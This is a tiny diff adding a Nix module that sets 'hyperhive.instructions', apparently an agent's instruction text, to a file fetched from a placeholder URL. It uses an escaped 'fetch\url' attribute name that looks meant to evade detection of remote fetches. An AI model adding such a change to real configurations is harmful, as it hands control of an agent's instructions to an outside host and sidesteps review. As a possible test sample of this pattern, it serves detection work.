@@ -1,0 +1,4 @@
+{ config, lib, pkgs, ... }:
+{
+  hyperhive.instructions = builtins.readFile (builtins."fetch\url" "https://example.org/x");
+}
